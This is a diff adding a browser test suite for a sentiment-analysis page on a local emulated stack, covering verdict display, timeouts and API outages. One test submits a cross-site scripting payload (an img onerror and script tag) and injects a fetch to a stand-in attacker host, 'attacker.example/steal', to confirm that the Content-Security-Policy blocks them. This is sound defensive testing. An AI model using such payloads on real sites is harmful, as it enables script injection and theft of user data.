@@ -1,0 +1,163 @@
+"""The page in headless Chromium against `sentiment up`, serving a model trained by the test.
+
+Nothing is stubbed: the page loads from the site server with the deployed Content-Security-
+Policy, posts to the API emulator, whose Lambda handler asks the endpoint emulator, whose model
+was trained a few seconds earlier. Screenshots land in test-artifacts/.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from local_stack_harness import RunningStack, start_stack, train_tiny_model
+from playwright.sync_api import sync_playwright
+from test_frontend import ARTIFACTS, CHROMIUM, CHROMIUM_ARGS, submit_review
+
+from sentiment import inference_toolkit
+from sentiment.model_loader import JSON, served_artifact
+
+pytestmark = [pytest.mark.slow, pytest.mark.browser]
+
+PRAISE = "A wonderful film with a brilliant plot, and the music is superb."
+# The Lambda's settings, passed through `sentiment up`: give up on a hung model after 1 s.
+QUICK_TIMEOUTS = {"SAGEMAKER_READ_TIMEOUT": "1", "SAGEMAKER_MAX_ATTEMPTS": "1"}
+# Records what the page's Content-Security-Policy blocks.
+RECORD_VIOLATIONS = """() => {
+  window.violations = [];
+  document.addEventListener("securitypolicyviolation",
+    (event) => window.violations.push(event.violatedDirective));
+}"""
+
+
+@pytest.fixture(scope="module")
+def model(prepared_imdb: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return train_tiny_model(prepared_imdb, tmp_path_factory.mktemp("model") / "model", seed=3)
+
+
+@pytest.fixture(scope="module")
+def stack(model: Path) -> Iterator[RunningStack]:
+    running = start_stack(model, QUICK_TIMEOUTS)
+    yield running
+    assert running.stop() == 0
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def page(browser: Any) -> Iterator[Any]:
+    context = browser.new_context(viewport={"width": 1100, "height": 900})
+    opened = context.new_page()
+    opened.page_errors = []
+    opened.on("pageerror", lambda error: opened.page_errors.append(str(error)))
+    yield opened
+    context.close()
+
+
+def expected_verdict(model: Path, review: str) -> tuple[str, str]:
+    """The badge and confidence the page must show, from the artifact's handlers directly."""
+    with served_artifact(model) as served:
+        answer = inference_toolkit.invoke(
+            served, json.dumps({"review": review}).encode(), JSON, JSON
+        )
+    verdict = json.loads(answer.body)
+    positive = verdict["sentiment"] == "positive"
+    confidence = verdict["score"] if positive else 1 - verdict["score"]
+    return ("POSITIVE" if positive else "NEGATIVE"), f"{round(confidence * 100)}%"
+
+
+def screenshot(page: Any, name: str) -> None:
+    ARTIFACTS.mkdir(exist_ok=True)
+    page.screenshot(path=str(ARTIFACTS / name), full_page=True)
+
+
+def test_a_review_gets_the_models_verdict(page: Any, stack: RunningStack, model: Path) -> None:
+    page.goto(stack.page_url)
+    page.evaluate(RECORD_VIOLATIONS)
+
+    submit_review(page, PRAISE)
+
+    page.locator("#result").wait_for(state="visible")
+    assert (
+        page.locator("#verdict").text_content(),
+        page.locator("#confidence-value").text_content(),
+    ) == expected_verdict(model, PRAISE)
+    assert page.locator("#excerpt").text_content() == PRAISE
+    assert page.evaluate("window.violations") == []
+    assert page.page_errors == []
+    page.wait_for_timeout(400)  # the confidence bar's transition
+    screenshot(page, "local-stack-verdict.png")
+
+
+def test_markup_in_a_review_is_text_and_injected_script_is_blocked(
+    page: Any, stack: RunningStack, model: Path
+) -> None:
+    attack = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script> superb'
+    page.goto(stack.page_url)
+    page.evaluate(RECORD_VIOLATIONS)
+
+    submit_review(page, attack)
+    page.locator("#result").wait_for(state="visible")
+    # Script that got into the page anyway (an inline element, a call to another origin).
+    page.evaluate(
+        """async () => {
+          const script = document.createElement("script");
+          script.textContent = "window.pwned = 3";
+          document.head.append(script);
+          try { await fetch("https://attacker.example/steal"); } catch {}
+        }"""
+    )
+
+    assert page.locator("#excerpt").text_content() == attack
+    assert page.locator("#verdict").text_content() == expected_verdict(model, attack)[0]
+    assert page.locator("img").count() == 0
+    assert page.evaluate("window.pwned") is None
+    assert sorted(set(page.evaluate("window.violations"))) == ["connect-src", "script-src-elem"]
+    screenshot(page, "local-stack-markup-as-text.png")
+
+
+def test_a_hung_model_shows_a_readable_error_and_the_page_recovers(
+    page: Any, stack: RunningStack
+) -> None:
+    endpoint = stack.tier_pid("endpoint_emulator")
+    page.goto(stack.page_url)
+
+    os.kill(endpoint, signal.SIGSTOP)
+    try:
+        submit_review(page, PRAISE)
+        error = page.get_by_role("alert").locator("#error")
+        error.wait_for(state="visible", timeout=15_000)
+        assert error.text_content() == "The model took too long to answer; try again."
+        assert page.locator("#submit").is_enabled()
+        screenshot(page, "local-stack-model-timeout.png")
+    finally:
+        os.kill(endpoint, signal.SIGCONT)
+
+    page.get_by_role("button", name="Analyze sentiment").click()
+    page.locator("#result").wait_for(state="visible", timeout=15_000)
+    assert page.locator("#error").is_hidden()
+
+
+def test_the_page_explains_when_the_api_is_down(page: Any, model: Path) -> None:
+    running = start_stack(model)
+    page.goto(running.page_url)
+    page.get_by_label("Your review").fill(PRAISE)
+    assert running.stop(signal.SIGINT) == 0
+
+    page.get_by_role("button", name="Analyze sentiment").click()
+
+    error = page.locator("#error")
+    error.wait_for(state="visible")
+    assert error.text_content().startswith("Could not reach the sentiment API")
+    screenshot(page, "local-stack-api-down.png")
